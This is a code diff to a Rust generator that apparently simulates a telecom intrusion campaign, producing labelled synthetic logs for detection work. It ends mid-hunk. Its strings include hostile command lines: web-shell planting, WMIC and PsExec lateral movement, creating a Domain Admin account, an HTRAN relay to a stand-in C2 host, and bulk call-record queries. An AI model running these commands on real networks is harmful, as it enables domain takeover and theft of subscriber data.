@@ -10,15 +10,17 @@
 use serde::Serialize;
 
 use crate::background::Background;
-use crate::cdr::TheftQuery;
+use crate::cdr::{MatchOn, TheftQuery};
 use crate::clock::{self, DAY, HOUR, MINUTE, SECOND};
 use crate::db::{Session, Statement};
 use crate::dice::Dice;
 use crate::flows::{self, Flow};
+use crate::profile::TheftStyle;
+use crate::queries::Sql;
 use crate::sink::{Label, Sink};
 use crate::web::{self, Request};
 use crate::windows::{exe, Exe, Machine, Proc, Who};
-use crate::world::{World, DOMAIN_SID};
+use crate::world::{Role, World};
 use crate::{Config, Estate};
 
 /// The stages of softcell.md §1 the campaign plays.
@@ -65,7 +67,10 @@ struct DbStep {
 
 enum DbAction {
     Connect,
+    /// A statement that reads CDRs, with the index of its query (its rows come from the CDRs).
     Run(Statement, usize),
+    /// A statement that reads none.
+    Plain(Statement),
     Disconnect,
 }
 
@@ -80,7 +85,9 @@ pub struct Campaign {
 
 struct Kit {
     wave: u8,
-    entry: &'static str,
+    /// The web server the wave enters through.
+    entry: usize,
+    /// The web shell's name (without extension).
     shell: String,
     attacker: String,
     c2: String,
@@ -89,9 +96,11 @@ struct Kit {
     renamed: bool,
     build: u32,
     da_account: String,
-    collect_host: &'static str,
-    db_user: &'static str,
+    collect_host: usize,
+    db_user: String,
     marker: (&'static str, &'static str),
+    /// Writes its target numbers in national form (`0…`).
+    national: bool,
 }
 
 struct Ctx<'a> {
@@ -103,8 +112,12 @@ struct Ctx<'a> {
 }
 
 impl<'a> Ctx<'a> {
-    fn m(&self, host: &str) -> Machine<'a> {
-        self.estate.machine(self.world, self.world.host(host))
+    fn m(&self, host: usize) -> Machine<'a> {
+        self.estate.machine(self.world, host)
+    }
+
+    fn name(&self, host: usize) -> String {
+        self.world.hosts[host].name.clone()
     }
 
     fn label(&self, sink: &mut Sink, stage: u8, technique: &'static str, what: &'static str) {
@@ -116,9 +129,10 @@ impl<'a> Ctx<'a> {
         }));
     }
 
-    fn touch(&mut self, host: &str) {
-        if !self.truth.hosts.iter().any(|h| h == host) {
-            self.truth.hosts.push(host.to_string());
+    fn touch(&mut self, host: usize) {
+        let name = &self.world.hosts[host].name;
+        if !self.truth.hosts.iter().any(|h| h == name) {
+            self.truth.hosts.push(name.clone());
         }
     }
 
@@ -129,8 +143,8 @@ impl<'a> Ctx<'a> {
         path.to_string()
     }
 
-    fn ip(&self, host: &str) -> String {
-        self.world.hosts[self.world.host(host)].ip.clone()
+    fn ip(&self, host: usize) -> String {
+        self.world.hosts[host].ip.clone()
     }
 
     #[allow(clippy::too_many_arguments)]
@@ -201,16 +215,16 @@ impl Campaign {
                 + (22 * HOUR - i64::from(cfg.utc_offset_min) * MINUTE).rem_euclid(DAY)
                 + dice.range(0, 90) * MINUTE;
             let renamed = w > 1 || cfg.stealth >= 0.8;
+            let habits = &world.profile.habits;
+            let cycle = (w as usize - 1) % 3;
+            let webs = world.web_servers();
+            let dba_db_user = world.accounts_of(crate::world::AccountKind::Dba)[0]
+                .name
+                .replace('.', "_");
             let kit = Kit {
                 wave: w,
-                entry: if w % 2 == 0 { "WEB02" } else { "WEB01" },
-                shell: [
-                    "errorEE.aspx",
-                    "logon_sso.aspx",
-                    "OutlookEN.aspx",
-                    "health.aspx",
-                ][(w as usize - 1) % 4]
-                    .into(),
+                entry: webs[(w as usize - 1) % webs.len()],
+                shell: habits.shells[cycle].into(),
                 attacker: format!("203.0.113.{}", 20 + 17 * w),
                 c2: format!("198.51.100.{}", 30 + 23 * w),
                 c2_domain: [
@@ -220,30 +234,30 @@ impl Campaign {
                     "rosaf112.ddns.net",
                 ][(w as usize - 1) % 4]
                     .into(),
-                dir: [
-                    "C:\\ProgramData\\Samsung",
-                    "C:\\ProgramData\\Microsoft\\DeviceSync",
-                    "C:\\Users\\Public\\Libraries\\Intel",
-                    "C:\\ProgramData\\Adobe\\ARM",
-                ][(w as usize - 1) % 4],
+                dir: habits.dirs[cycle],
                 renamed,
-                build: u32::from(w),
-                da_account: ["svc_sync", "nwm_helpdesk2", "backup_adm", "sql_svc01"]
-                    [(w as usize - 1) % 4]
-                    .into(),
-                collect_host: ["FS01", "JUMP01", "BKP01"][(w as usize - 1) % 3],
-                db_user: ["care_app", "dba_x", "bi_reader"][(w as usize - 1) % 3],
+                build: habits.build_base + u32::from(w),
+                da_account: habits.accounts[cycle].into(),
+                collect_host: world.one(
+                    [Role::FileServer, Role::JumpHost, Role::Backup][(w as usize - 1) % 3],
+                ),
+                db_user: match (w as usize - 1) % 3 {
+                    0 => "care_app".into(),
+                    1 => dba_db_user,
+                    _ => "bi_reader".into(),
+                },
                 marker: if w == 1 {
                     ("[S]", "[E]")
                 } else {
                     ("[B]", "[F]")
                 },
+                national: habits.national_numbers && w % 2 == 0,
             };
             let truth = WaveTruth {
                 wave: w,
                 start: clock::rfc3339(t0),
                 end: String::new(),
-                entry_host: kit.entry.into(),
+                entry_host: world.hosts[kit.entry].name.clone(),
                 web_shell: String::new(),
                 attacker_ip: kit.attacker.clone(),
                 c2_ip: kit.c2.clone(),
@@ -251,7 +265,7 @@ impl Campaign {
                 hosts: Vec::new(),
                 accounts_created: vec![kit.da_account.clone()],
                 db_account: String::new(),
-                collection_host: kit.collect_host.into(),
+                collection_host: world.hosts[kit.collect_host].name.clone(),
                 tools: Vec::new(),
                 targets: wave_targets.clone(),
             };
@@ -279,35 +293,73 @@ impl Campaign {
         targets: &[String],
     ) -> i64 {
         let world = c.world;
+        let org = world.org();
         let entry = c.kit.entry;
         c.touch(entry);
         let web = c.m(entry);
-        let iis = entry == "WEB01";
-        let parent = if iis {
-            bg.w3wp().clone()
-        } else {
-            bg.java().clone()
-        };
+        let role = world.hosts[entry].role;
+        let parent = bg.web_proc(entry).clone();
         let attacker = c.kit.attacker.clone();
+        let offset = c.estate.utc_offset_min;
+        let db_host = world.one(Role::CdrDatabase);
+        let db_ip = c.ip(db_host);
+        let jump_h = world.one(Role::JumpHost);
+        let dc_h = world.one(Role::DomainController);
+        let fs_h = world.one(Role::FileServer);
         let mut t = t0;
 
+        // Where the shell lives and how it is reached, by web stack.
+        let shell = c.kit.shell.clone();
+        let (shell_path, shell_uri, webroot, dest, exploit_pages): (String, String, &str, &str, [&str; 5]) = match role {
+            Role::WebIis => (
+                format!("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell}.aspx"),
+                format!("/aspnet_client/system_web/{shell}.aspx"),
+                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\",
+                "c$\\inetpub\\wwwroot\\aspnet_client\\system_web",
+                [
+                    "/selfcare/upload.aspx",
+                    "/selfcare/Telerik.Web.UI.WebResource.axd",
+                    "/selfcare/login.aspx",
+                    "/aspnet_client/",
+                    "/selfcare/ScriptResource.axd",
+                ],
+            ),
+            Role::WebTomcat => (
+                format!("C:\\Tomcat9\\webapps\\portal\\upload\\{shell}.jsp"),
+                format!("/portal/upload/{shell}.jsp"),
+                "C:\\Tomcat9\\webapps\\portal\\upload\\",
+                "c$\\Tomcat9\\webapps\\portal\\static",
+                [
+                    "/manager/html",
+                    "/portal/upload/do.jsp",
+                    "/portal/login.jsp",
+                    "/host-manager/html",
+                    "/portal/api/v1/upload",
+                ],
+            ),
+            _ => (
+                format!("C:\\wildfly\\standalone\\deployments\\{shell}.war"),
+                format!("/{shell}/index.jsp"),
+                "C:\\wildfly\\bin\\",
+                "c$\\wildfly\\welcome-content",
+                [
+                    "/invoker/JMXInvokerServlet",
+                    "/jmx-console/",
+                    "/web-console/Invoker",
+                    "/invoker/EJBInvokerServlet",
+                    "/admin-console/",
+                ],
+            ),
+        };
+        let download_uri = |p: usize| -> String {
+            match role {
+                Role::WebIis => format!("/aspnet_client/system_web/cdr.part{p:02}.rar"),
+                Role::WebTomcat => format!("/portal/static/cdr.part{p:02}.rar"),
+                _ => format!("/cdr.part{p:02}.rar"),
+            }
+        };
+
         // Stage 1: exploit the public server, plant the shell.
-        let shell_path = if iis {
-            format!(
-                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{}",
-                c.kit.shell
-            )
-        } else {
-            format!(
-                "C:\\wildfly\\standalone\\deployments\\{}.war",
-                c.kit.shell.trim_end_matches(".aspx")
-            )
-        };
-        let shell_uri = if iis {
-            format!("/aspnet_client/system_web/{}", c.kit.shell)
-        } else {
-            format!("/{}/index.jsp", c.kit.shell.trim_end_matches(".aspx"))
-        };
         c.truth.web_shell = shell_path.clone();
         c.label(
             sink,
@@ -315,33 +367,25 @@ impl Campaign {
             "T1190",
             "exploit attempts against the public server",
         );
-        if iis {
-            let stream = c.estate.web[world.host("WEB01")].expect("WEB01 logs W3C");
-            for i in 0..(12 + c.dice.index(10)) {
-                let stem = *c.dice.pick(&[
-                    "/selfcare/upload.aspx",
-                    "/selfcare/Telerik.Web.UI.WebResource.axd",
-                    "/selfcare/login.aspx",
-                    "/aspnet_client/",
-                    "/selfcare/ScriptResource.axd",
-                ]);
-                let status = *c.dice.pick(&[500, 500, 404, 403, 200]);
-                let line = web::line(t + i as i64 * 20 * SECOND, "10.20.0.10", &Request {
-                    method: if i % 3 == 0 { "GET" } else { "POST" },
-                    stem,
-                    query: if stem.ends_with(".axd") { "type=rau" } else { "" },
-                    port: 443,
-                    user: "",
-                    client: &attacker,
-                    agent: "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0",
-                    referer: "",
-                    status,
-                    sc_bytes: if status == 500 { 3_420 } else { 1_245 },
-                    cs_bytes: 900 + c.dice.below(40_000),
-                    time_taken_ms: 40 + c.dice.below(900),
-                });
-                sink.text(stream, t + i as i64 * 20 * SECOND, line);
-            }
+        for i in 0..(12 + c.dice.index(10)) {
+            let stem = *c.dice.pick(&exploit_pages);
+            let status = *c.dice.pick(&[500, 500, 404, 403, 200]);
+            let tt = t + i as i64 * 20 * SECOND;
+            let req = Request {
+                method: if i % 3 == 0 { "GET" } else { "POST" },
+                stem,
+                query: if stem.ends_with(".axd") { "type=rau" } else { "" },
+                port: 443,
+                user: "",
+                client: &attacker,
+                agent: "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0",
+                referer: "",
+                status,
+                sc_bytes: if status == 500 { 3_420 } else { 1_245 },
+                cs_bytes: 900 + c.dice.below(40_000),
+                time_taken_ms: 40 + c.dice.below(900),
+            };
+            web::log(sink, world, &c.estate.web, offset, entry, tt, &req);
         }
         t += 8 * MINUTE;
         c.label(
@@ -352,37 +396,26 @@ impl Campaign {
         );
         web.file(sink, t, &parent, &shell_path);
         let shell_req = |c: &mut Ctx<'_>, sink: &mut Sink, t: i64, bytes: u64| {
-            if let Some(stream) = c.estate.web[world.host("WEB01")].filter(|_| iis) {
-                let line = web::line(
-                    t,
-                    "10.20.0.10",
-                    &Request {
-                        method: "POST",
-                        stem: &shell_uri,
-                        query: "",
-                        port: 443,
-                        user: "",
-                        client: &attacker,
-                        agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
-                        referer: "",
-                        status: 200,
-                        sc_bytes: bytes,
-                        cs_bytes: 300 + c.dice.below(700),
-                        time_taken_ms: 200 + c.dice.below(3000),
-                    },
-                );
-                sink.text(stream, t, line);
-            }
+            let req = Request {
+                method: "POST",
+                stem: &shell_uri,
+                query: "",
+                port: 443,
+                user: "",
+                client: &attacker,
+                agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+                referer: "",
+                status: 200,
+                sc_bytes: bytes,
+                cs_bytes: 300 + c.dice.below(700),
+                time_taken_ms: 200 + c.dice.below(3000),
+            };
+            web::log(sink, world, &c.estate.web, offset, entry, t, &req);
         };
         shell_req(c, sink, t + 30 * SECOND, 120);
         t += MINUTE;
 
         // Stage 2: discovery through the shell. Every command is one request and one cmd.exe.
-        let webroot = if iis {
-            "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"
-        } else {
-            "C:\\wildfly\\bin\\"
-        };
         let (s_mark, e_mark) = c.kit.marker;
         let dir = c.kit.dir;
         let shell_cmd = |c: &mut Ctx<'_>,
@@ -414,7 +447,8 @@ impl Campaign {
             c.label(sink, stage, technique, what);
             web.spawn(sink, &mut c.dice, t + 300_000, &cmd, tool, line.to_string())
         };
-        let recon: Vec<(&'static str, &'static str, Exe<'static>, &'static str)> = vec![
+        let ping = format!("ping -n 1 {db_ip}");
+        let recon: Vec<(&'static str, &'static str, Exe<'static>, &str)> = vec![
             (
                 "T1033",
                 "owner discovery",
@@ -455,7 +489,7 @@ impl Campaign {
                 "T1018",
                 "ping sweep",
                 exe("C:\\Windows\\System32\\PING.EXE", "ping.exe"),
-                "ping -n 1 10.30.0.10",
+                &ping,
             ),
         ];
         let keep = recon.len() - (c.dice.index(3));
@@ -463,11 +497,13 @@ impl Campaign {
             t += c.dice.range(15, 90) * SECOND;
             shell_cmd(c, sink, t, 2, technique, what, tool, line);
         }
-        // NBTscan and PortQry, dropped by the shell (renamed in later waves).
+        // The scanner and PortQry, dropped by the shell (renamed in later waves).
+        let tools = world.profile.habits.tools;
+        let renamed_tools = world.profile.habits.renamed;
         let nbt_path = c.tool(&if c.kit.renamed {
-            format!("{dir}\\nbt.exe")
+            format!("{dir}\\{}", renamed_tools[0])
         } else {
-            format!("{dir}\\nbtscan.exe")
+            format!("{dir}\\{}", tools[0])
         });
         let qry_path = c.tool(&format!("{dir}\\PortQry.exe"));
         t += MINUTE;
@@ -481,6 +517,7 @@ impl Campaign {
         web.file(sink, t, &parent, &nbt_path);
         web.file(sink, t + SECOND, &parent, &qry_path);
         t += 30 * SECOND;
+        let subnet = db_ip.rsplit_once('.').map_or(db_ip.clone(), |(n, _)| n.to_string());
         let nbt = shell_cmd(
             c,
             sink,
@@ -493,10 +530,14 @@ impl Campaign {
                 pe: "nbtscan.exe",
                 build: c.kit.build,
             },
-            &format!("{nbt_path} -r 10.30.0.0/24"),
+            &format!("{nbt_path} -r {subnet}.0/24"),
         );
         let web_ip = c.ip(entry);
-        for host in world.hosts.iter().filter(|h| h.ip.starts_with("10.30.0.")) {
+        for host in world
+            .hosts
+            .iter()
+            .filter(|h| h.ip.starts_with(&format!("{subnet}.")))
+        {
             web.connect(
                 sink,
                 t + SECOND,
@@ -534,7 +575,7 @@ impl Campaign {
                 pe: "PortQry.exe",
                 build: 0,
             },
-            &format!("{qry_path} -n 10.30.0.10 -e 5432"),
+            &format!("{qry_path} -n {db_ip} -e 5432"),
         );
         web.connect(
             sink,
@@ -543,7 +584,7 @@ impl Campaign {
             "tcp",
             true,
             (&web_ip, 51_330),
-            ("10.30.0.10", 5432),
+            (&db_ip, 5432),
         );
 
         // Stage 3: credentials, from memory and from the registry hives.
@@ -558,7 +599,7 @@ impl Campaign {
         );
         let dumper = match c.kit.wave % 3 {
             1 => {
-                let path = c.tool(&format!("{dir}\\msupd.exe"));
+                let path = c.tool(&format!("{dir}\\{}", tools[3]));
                 c.label(sink, 3, "T1105", "credential dumper uploaded");
                 shell_req(c, sink, t - SECOND, 200);
                 web.file(sink, t, &parent, &path);
@@ -633,21 +674,23 @@ impl Campaign {
         // Stage 4: move on with the stolen admin: WMI to the jump host, files over SMB,
         // PsExec to the domain controller.
         t += c.dice.range(30, 90) * MINUTE;
-        let jump_ip = c.ip("JUMP01");
-        let stolen_who = Who::user(&stolen.name, &stolen.sid, 0);
+        let jump_ip = c.ip(jump_h);
+        let jump_name = c.name(jump_h);
+        let entry_name = c.name(entry);
+        let stolen_who = Who::of(stolen, 0);
         let pth = c.kit.wave != 1;
-        let wmic = shell_cmd(c, sink, t, 4, "T1047", "remote command through WMI", exe("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe"), &format!("wmic /node:{jump_ip} /user:NWM\\{} /password:******** process call create \"cmd /c mkdir {dir}\"", stolen.name));
+        let wmic = shell_cmd(c, sink, t, 4, "T1047", "remote command through WMI", exe("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe"), &format!("wmic /node:{jump_ip} /user:{}\\{} /password:******** process call create \"cmd /c mkdir {dir}\"", org.netbios, stolen.name));
         c.label(sink, 4, "T1078", "stolen admin credentials used explicitly");
         web.explicit_logon(
             sink,
             t + SECOND,
             &wmic,
             &stolen_who,
-            "JUMP01.nwm.example",
+            &world.hosts[jump_h].fqdn,
             &jump_ip,
         );
-        c.touch("JUMP01");
-        let jump = c.m("JUMP01");
+        c.touch(jump_h);
+        let jump = c.m(jump_h);
         c.label(
             sink,
             4,
@@ -661,10 +704,10 @@ impl Campaign {
             &stolen_who,
             3,
             pth,
-            (&web_ip, entry),
+            (&web_ip, &entry_name),
             true,
         );
-        let intruder = Who::user(&stolen.name, &stolen.sid, logon);
+        let intruder = Who::of(stolen, logon);
         let wmiprvse = jump.running(
             &mut c.dice,
             "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
@@ -733,14 +776,14 @@ impl Campaign {
         let side_exe = c.tool(&format!("{dir}\\RunHelp.exe"));
         let side_dll = c.tool(&format!("{dir}\\ssMUIDLL.dll"));
         let htran_path = c.tool(&if c.kit.renamed {
-            format!("{dir}\\dsync.exe")
+            format!("{dir}\\{}", renamed_tools[1])
         } else {
-            format!("{dir}\\htran.exe")
+            format!("{dir}\\{}", tools[1])
         });
         let rar_path = c.tool(&if c.kit.renamed {
-            format!("{dir}\\ds.exe")
+            format!("{dir}\\{}", renamed_tools[2])
         } else {
-            format!("{dir}\\rar.exe")
+            format!("{dir}\\{}", tools[2])
         });
         for (k, f) in [
             &side_exe,
@@ -766,7 +809,7 @@ impl Campaign {
         );
         // PsExec from the jump host to the domain controller, as SYSTEM, with a renamed service.
         t += c.dice.range(10, 30) * MINUTE;
-        let dc_ip = c.ip("DC01");
+        let dc_ip = c.ip(dc_h);
         let svc_name = if c.kit.renamed {
             "WinMgmtHelper"
         } else {
@@ -776,8 +819,8 @@ impl Campaign {
         c.label(sink, 4, "T1570", "PsExec to the domain controller");
         jump.file(sink, t - MINUTE, &system4, &psexec_path);
         jump.spawn(sink, &mut c.dice, t, &jcmd, Exe { path: &psexec_path, pe: "psexec.c", build: 0 }, format!("{psexec_path} \\\\{dc_ip} -accepteula -s -r {svc_name} cmd.exe /c \"net user {da} P@ssw0rd!{w} /add /domain & net group \\\"Domain Admins\\\" {da} /add /domain\"", da = c.kit.da_account, w = c.kit.wave));
-        c.touch("DC01");
-        let dc = c.m("DC01");
+        c.touch(dc_h);
+        let dc = c.m(dc_h);
         let dc_logon = dc.logon(
             sink,
             &mut c.dice,
@@ -785,10 +828,10 @@ impl Campaign {
             &stolen_who,
             3,
             pth,
-            (&jump_ip, "JUMP01"),
+            (&jump_ip, &jump_name),
             true,
         );
-        let dc_who = Who::user(&stolen.name, &stolen.sid, dc_logon);
+        let dc_who = Who::of(stolen, dc_logon);
         dc.share_access(
             sink,
             t + 2 * SECOND,
@@ -804,7 +847,7 @@ impl Campaign {
             svc_name,
             &format!("%SystemRoot%\\{svc_name}.exe"),
         );
-        let dc_services = bg.services(world.host("DC01")).clone();
+        let dc_services = bg.services(dc_h).clone();
         let svc = dc.spawn(
             sink,
             &mut c.dice,
@@ -837,7 +880,7 @@ impl Campaign {
             "domain account created by the intruder",
         );
         let da = c.kit.da_account.clone();
-        let da_sid = format!("{DOMAIN_SID}-{}", 7100 + u32::from(c.kit.wave));
+        let da_sid = format!("{}-{}", org.sid, 7100 + u32::from(c.kit.wave));
         let dc_cmd = dc.spawn(sink, &mut c.dice, t + 5 * SECOND, &svc, exe("C:\\Windows\\System32\\cmd.exe", "Cmd.Exe"), format!("cmd.exe /c \"net user {da} P@ssw0rd!{w} /add /domain & net group \"Domain Admins\" {da} /add /domain\"", w = c.kit.wave));
         dc.spawn(
             sink,
@@ -981,9 +1024,9 @@ impl Campaign {
         t += 30 * MINUTE;
         c.label(sink, 6, "T1090.002", "HTRAN relay started");
         let relay_args = if c.kit.renamed {
-            format!("-s {c2} 8443 10.30.0.10 5432")
+            format!("-s {c2} 8443 {db_ip} 5432")
         } else {
-            format!("-slave {c2} 8443 10.30.0.10 5432")
+            format!("-slave {c2} 8443 {db_ip} 5432")
         };
         let relay = jump.spawn(
             sink,
@@ -1015,7 +1058,7 @@ impl Campaign {
                 "tcp",
                 true,
                 (&jump_ip, 51_300 + k as u16),
-                ("10.30.0.10", 5432),
+                (&db_ip, 5432),
             );
             let bytes = 40_000 + c.dice.below(200_000);
             c.flow(
@@ -1032,7 +1075,7 @@ impl Campaign {
                 sink,
                 tt + SECOND,
                 (&jump_ip, 51_300 + k as u16),
-                ("10.30.0.10", 5432),
+                (&db_ip, 5432),
                 "postgresql",
                 299.0,
                 bytes / 9,
@@ -1046,7 +1089,7 @@ impl Campaign {
         let cm = c.m(host);
         let chost_ip = c.ip(host);
         let mut ccmd = jcmd.clone();
-        if host != "JUMP01" {
+        if host != jump_h {
             t += 20 * MINUTE;
             c.label(sink, 4, "T1047", "WMI to the collection host");
             jump.spawn(
@@ -1064,10 +1107,10 @@ impl Campaign {
                 &stolen_who,
                 3,
                 pth,
-                (&jump_ip, "JUMP01"),
+                (&jump_ip, &jump_name),
                 true,
             );
-            let w = Who::user(&stolen.name, &stolen.sid, l);
+            let w = Who::of(stolen, l);
             let prv = cm.running(
                 &mut c.dice,
                 "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
@@ -1092,20 +1135,15 @@ impl Campaign {
                 cm.file(sink, t + 5 * SECOND, &system4, f);
             }
         }
-        let psql_path = if host == "JUMP01" {
+        let psql_path = if host == jump_h {
             "C:\\Program Files\\PostgreSQL\\15\\bin\\psql.exe".to_string()
         } else {
             format!("{dir}\\psql.exe")
         };
         c.tool(&psql_path);
-        let db_user = if c.kit.db_user == "dba_x" {
-            world.accounts_of(crate::world::AccountKind::Dba)[0]
-                .name
-                .replace('.', "_")
-        } else {
-            c.kit.db_user.to_string()
-        };
+        let db_user = c.kit.db_user.clone();
         c.truth.db_account = db_user.clone();
+        let database = world.profile.db.database;
         let chunks: Vec<&[String]> = targets.chunks(targets.len().div_ceil(2).max(1)).collect();
         let night0 =
             next_local(t + 2 * HOUR, 2, c.estate.utc_offset_min) + c.dice.range(0, 40) * MINUTE;
@@ -1118,7 +1156,7 @@ impl Campaign {
                 "T1005",
                 "database client run on a host that is no DB or application server",
             );
-            let psql = cm.spawn(sink, &mut c.dice, tt, &ccmd, Exe { path: &psql_path, pe: "psql.exe", build: 0 }, format!("\"{psql_path}\" -h 10.30.0.10 -U {db_user} -d cdrdw -f {dir}\\q{}.sql -o {out}", n + 1));
+            let psql = cm.spawn(sink, &mut c.dice, tt, &ccmd, Exe { path: &psql_path, pe: "psql.exe", build: 0 }, format!("\"{psql_path}\" -h {db_ip} -U {db_user} -d {database} -f {dir}\\q{}.sql -o {out}", n + 1));
             let port = 52_000 + c.dice.below(9_000) as u16;
             cm.connect(
                 sink,
@@ -1127,14 +1165,14 @@ impl Campaign {
                 "tcp",
                 true,
                 (&chost_ip, port),
-                ("10.30.0.10", 5432),
+                (&db_ip, 5432),
             );
             cm.file(sink, tt + 40 * SECOND, &psql, &out);
             c.flow(
                 sink,
                 tt,
                 (&chost_ip, port),
-                ("10.30.0.10", 5432),
+                (&db_ip, 5432),
                 "postgresql",
                 55.0,
                 6_000,
@@ -1152,7 +1190,8 @@ impl Campaign {
             "password-protected split RAR of the query results",
         );
         let bin = format!(
-            "C:\\$Recycle.Bin\\S-1-5-21-3623811015-3361044348-30300820-{}",
+            "C:\\$Recycle.Bin\\{}-{}",
+            org.sid,
             1100 + c.kit.wave as u32
         );
         let rar = cm.spawn(
@@ -1195,11 +1234,6 @@ impl Campaign {
         );
         t += 10 * MINUTE;
         let entry_ip = c.ip(entry);
-        let dest = if iis {
-            "c$\\inetpub\\wwwroot\\aspnet_client\\system_web"
-        } else {
-            "c$\\wildfly\\welcome-content"
-        };
         c.label(
             sink,
             8,
@@ -1242,6 +1276,7 @@ impl Campaign {
             "T1041",
             "archive volumes downloaded from the web server",
         );
+        let logs = c.estate.web[entry].is_some();
         for p in 1..=parts {
             let tt = t + (p as i64) * 3 * MINUTE;
             let size = if p == parts {
@@ -1249,28 +1284,23 @@ impl Campaign {
             } else {
                 52_428_800
             };
-            if iis {
-                let stream = c.estate.web[world.host("WEB01")].expect("WEB01 logs W3C");
-                let stem = format!("/aspnet_client/system_web/cdr.part{p:02}.rar");
-                let line = web::line(
-                    tt,
-                    "10.20.0.10",
-                    &Request {
-                        method: "GET",
-                        stem: &stem,
-                        query: "",
-                        port: 443,
-                        user: "",
-                        client: &attacker,
-                        agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
-                        referer: "",
-                        status: 200,
-                        sc_bytes: size,
-                        cs_bytes: 310,
-                        time_taken_ms: 60_000 + c.dice.below(90_000),
-                    },
-                );
-                sink.text(stream, tt, line);
+            if logs {
+                let stem = download_uri(p);
+                let req = Request {
+                    method: "GET",
+                    stem: &stem,
+                    query: "",
+                    port: 443,
+                    user: "",
+                    client: &attacker,
+                    agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+                    referer: "",
+                    status: 200,
+                    sc_bytes: size,
+                    cs_bytes: 310,
+                    time_taken_ms: 60_000 + c.dice.below(90_000),
+                };
+                web::log(sink, world, &c.estate.web, offset, entry, tt, &req);
             } else {
                 web.connect(
                     sink,
@@ -1282,12 +1312,13 @@ impl Campaign {
                     (&attacker, 50_000 + p as u16),
                 );
             }
+            let front = world.profile.balancer.map_or(entry_ip.clone(), String::from);
             c.flow(
                 sink,
                 tt,
                 (&attacker, 50_000 + p as u16),
-                (&entry_ip, if iis { 443 } else { 8080 }),
-                if iis { "ssl" } else { "http" },
+                (&front, if logs { 443 } else { 8080 }),
+                if logs { "ssl" } else { "http" },
                 95.0,
                 400,
                 size,
@@ -1309,9 +1340,9 @@ impl Campaign {
         // Stage 10: a SoftEther VPN client on the file server, and the actor's own account
         // logging in over it later.
         t += c.dice.range(2, 6) * HOUR;
-        c.touch("FS01");
-        let fs = c.m("FS01");
-        let fs_ip = c.ip("FS01");
+        c.touch(fs_h);
+        let fs = c.m(fs_h);
+        let fs_ip = c.ip(fs_h);
         let vpn = "C:\\ProgramData\\SoftEther\\vpnclient.exe".to_string();
         c.tool(&vpn);
         c.label(
@@ -1327,7 +1358,7 @@ impl Campaign {
             &system4,
             "C:\\ProgramData\\SoftEther\\vpn_client.config",
         );
-        let da_who = Who::user(&da, &da_sid, 0);
+        let da_who = Who::user(org.netbios, &da, &da_sid, 0);
         fs.service(
             sink,
             t + 10 * SECOND,
@@ -1335,7 +1366,7 @@ impl Campaign {
             "SEVPNCLIENT",
             &format!("\"{vpn}\" /service"),
         );
-        let fs_services = bg.services(world.host("FS01")).clone();
+        let fs_services = bg.services(fs_h).clone();
         let vpnp = fs.spawn(
             sink,
             &mut c.dice,
@@ -1376,7 +1407,7 @@ impl Campaign {
             "T1078",
             "the intruder's domain admin logs on over the VPN",
         );
-        let dc = c.m("DC01");
+        let dc = c.m(dc_h);
         dc.kerberos_tgt(sink, back - SECOND, &da_who, "192.168.30.12");
         let l = jump.logon(
             sink,
@@ -1391,7 +1422,7 @@ impl Campaign {
         jump.logoff(
             sink,
             back + c.dice.range(10, 50) * MINUTE,
-            &Who::user(&da, &da_sid, l),
+            &Who::user(org.netbios, &da, &da_sid, l),
             l,
             10,
         );
@@ -1399,7 +1430,9 @@ impl Campaign {
         back + HOUR
     }
 
-    /// One night's psql session: the targeted SELECTs over two years of history, then a COPY.
+    /// One night's psql session: a look at who the targets are (where the estate has a
+    /// subscriber table and the intruder that habit), the targeted reads over two years of
+    /// history, then an export.
     #[allow(clippy::too_many_arguments)]
     fn db_session(
         &mut self,
@@ -1411,23 +1444,35 @@ impl Campaign {
         msisdns: &[String],
         copy: bool,
     ) {
+        let world = c.world;
+        let habits = world.profile.habits;
+        let schema = world.profile.db.schema;
+        let sql = Sql(&schema);
         let session = self.sessions.len();
         self.sessions.push(Session::new(
             20_000 + c.dice.below(30_000) as u32,
             user,
-            "cdrdw",
+            world.profile.db.database,
             "psql",
             host,
             port,
             t,
+            c.estate.log,
         ));
         let from = t - 730 * DAY;
-        let list = msisdns
-            .iter()
-            .map(|m| format!("'{m}'"))
-            .collect::<Vec<_>>()
-            .join(", ");
         let from_s = clock::date(from);
+        let until_s = clock::date(t + DAY);
+        // As the intruder writes them: international digits, or the national `0…` form.
+        let written: Vec<String> = msisdns
+            .iter()
+            .map(|m| {
+                if c.kit.national {
+                    format!("0{}", &m[crate::ids::COUNTRY_CODE.len()..])
+                } else {
+                    m.clone()
+                }
+            })
+            .collect();
         let mut tt = t + 5 * SECOND;
         let label = Label {
             wave: c.kit.wave,
@@ -1441,10 +1486,31 @@ impl Campaign {
             action: DbAction::Connect,
             label: label.clone(),
         });
-        for table in ["cdr.voice_cdr", "cdr.sms_cdr"] {
-            let text = format!(
-                "select start_time, end_time, record_type, calling_number, called_number,\n       duration_s, served_imei, lac_tac, cell_id\n  from {table}\n where served_msisdn in ({list})\n   and start_time >= '{from_s}'\n order by served_msisdn, start_time;"
-            );
+        if habits.subscriber_recon {
+            if let Some((text, table)) = sql.recon(&written) {
+                self.db_steps.push(DbStep {
+                    time: tt,
+                    session,
+                    action: DbAction::Plain(Statement::select(table, text, None, msisdns.len() as u64)),
+                    label: Label {
+                        technique: "T1213",
+                        what: "targets looked up in the subscriber table",
+                        ..label.clone()
+                    },
+                });
+                tt += c.dice.range(20, 90) * SECOND;
+            }
+        }
+        let match_on = match habits.theft {
+            TheftStyle::Parties => MatchOn::Parties,
+            _ => MatchOn::Served,
+        };
+        let mut tables = vec![schema.voice];
+        if schema.sms != schema.voice {
